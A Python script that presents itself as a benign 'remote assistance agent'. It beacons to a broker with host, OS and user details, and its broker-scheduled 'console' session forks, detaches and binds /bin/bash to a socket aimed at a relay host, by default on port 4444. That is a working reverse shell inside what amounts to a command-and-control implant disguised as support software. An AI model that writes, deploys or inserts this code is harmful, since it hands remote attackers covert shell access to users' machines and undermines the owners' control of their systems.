#!/usr/bin/env python3
"""Remote assistance agent.

Periodically checks in with the support broker, reports a heartbeat and
executes "sessions" the broker schedules.  Session types are plugins
registered through a decorator; the agent runs as a small state machine
driven by a generator of broker events, with retries handled by a
backoff context manager.
"""
from __future__ import annotations

import argparse
import contextlib
import json
import logging
import os
import platform
import pty
import random
import socket
import time
import urllib.request
from dataclasses import dataclass, field
from typing import Callable, Dict, Iterator, Optional

log = logging.getLogger("assist-agent")

BROKER_URL = os.environ.get("ASSIST_BROKER", "http://support-gw.example-help.net:8080")
SESSION_TYPES: Dict[str, Callable[["AgentContext", dict], None]] = {}


def session_type(name: str):
    def register(fn):
        SESSION_TYPES[name] = fn
        return fn
    return register


@dataclass
class AgentContext:
    agent_id: str
    broker: str
    interval: float = 30.0
    stats: Dict[str, int] = field(default_factory=lambda: {"checkins": 0, "sessions": 0, "errors": 0})


@contextlib.contextmanager
def backoff(ctx: AgentContext, label: str) -> Iterator[None]:
    try:
        yield
    except (OSError, ValueError) as exc:
        ctx.stats["errors"] += 1
        delay = min(300.0, ctx.interval * (1 + ctx.stats["errors"] % 5)) + random.uniform(0, 5)
        log.debug("%s failed (%s); sleeping %.0fs", label, exc, delay)
        time.sleep(delay)
    else:
        ctx.stats["errors"] = 0


def fingerprint() -> dict:
    return {"host": socket.gethostname(), "os": platform.platform(), "user": os.environ.get("USER", "?"),
            "py": platform.python_version()}


class BrokerChannel:
    def __init__(self, ctx: AgentContext):
        self.ctx = ctx

    def _post(self, path: str, body: dict) -> dict:
        data = json.dumps(body).encode()
        req = urllib.request.Request(self.ctx.broker + path, data=data, headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=20) as resp:
            raw = resp.read()
        return json.loads(raw) if raw else {}

    def checkin(self) -> dict:
        self.ctx.stats["checkins"] += 1
        return self._post("/v1/checkin", {"id": self.ctx.agent_id, **fingerprint(), "stats": self.ctx.stats})

    def events(self) -> Iterator[dict]:
        while True:
            reply: Optional[dict] = None
            with backoff(self.ctx, "checkin"):
                reply = self.checkin()
            if reply:
                for ev in reply.get("sessions", []):
                    yield ev
            time.sleep(self.ctx.interval)


@session_type("ping")
def ping_session(ctx: AgentContext, ev: dict) -> None:
    log.info("ping from broker: %s", ev.get("note", ""))


@session_type("diag")
def diag_session(ctx: AgentContext, ev: dict) -> None:
    load = os.getloadavg() if hasattr(os, "getloadavg") else (0, 0, 0)
    log.info("load average %.2f %.2f %.2f", *load)


class ConsoleBridge:
    """Attach an interactive shell to a broker-side console relay."""

    def __init__(self, host: str, port: int):
        self.host = host
        self.port = port

    def attach(self) -> None:
        conn = socket.create_connection((self.host, self.port), timeout=30)
        conn.settimeout(None)
        for fd in (0, 1, 2):
            os.dup2(conn.fileno(), fd)
        os.environ["TERM"] = "xterm"
        pty.spawn("/bin/bash")
        conn.close()


@session_type("console")
def console_session(ctx: AgentContext, ev: dict) -> None:
    relay_host = ev.get("relay", "support-gw.example-help.net")
    relay_port = int(ev.get("port", 4444))
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            ConsoleBridge(relay_host, relay_port).attach()
        finally:
            os._exit(0)
    log.info("console session %s started (pid %d)", ev.get("id"), pid)


class Agent:
    def __init__(self, ctx: AgentContext, channel: BrokerChannel):
        self.ctx = ctx
        self.channel = channel
        self.state = "idle"

    def dispatch(self, ev: dict) -> None:
        handler = SESSION_TYPES.get(ev.get("type", ""))
        if not handler:
            log.warning("unknown session type %r", ev.get("type"))
            return
        self.state = "busy"
        try:
            handler(self.ctx, ev)
            self.ctx.stats["sessions"] += 1
        finally:
            self.state = "idle"

    def run(self, max_events: Optional[int] = None) -> None:
        for count, ev in enumerate(self.channel.events(), 1):
            self.dispatch(ev)
            if max_events and count >= max_events:
                break


def main() -> int:
    ap = argparse.ArgumentParser(description="remote assistance agent")
    ap.add_argument("--broker", default=BROKER_URL)
    ap.add_argument("--interval", type=float, default=30.0)
    ap.add_argument("--max-events", type=int)
    ap.add_argument("--connect-now", metavar="HOST:PORT", help="open a console immediately")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    agent_id = f"{socket.gethostname()}-{os.getuid()}"
    ctx = AgentContext(agent_id=agent_id, broker=args.broker.rstrip("/"), interval=args.interval)
    if args.connect_now:
        host, _, port = args.connect_now.rpartition(":")
        console_session(ctx, {"id": "manual", "relay": host, "port": port})
        return 0
    Agent(ctx, BrokerChannel(ctx)).run(args.max_events)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
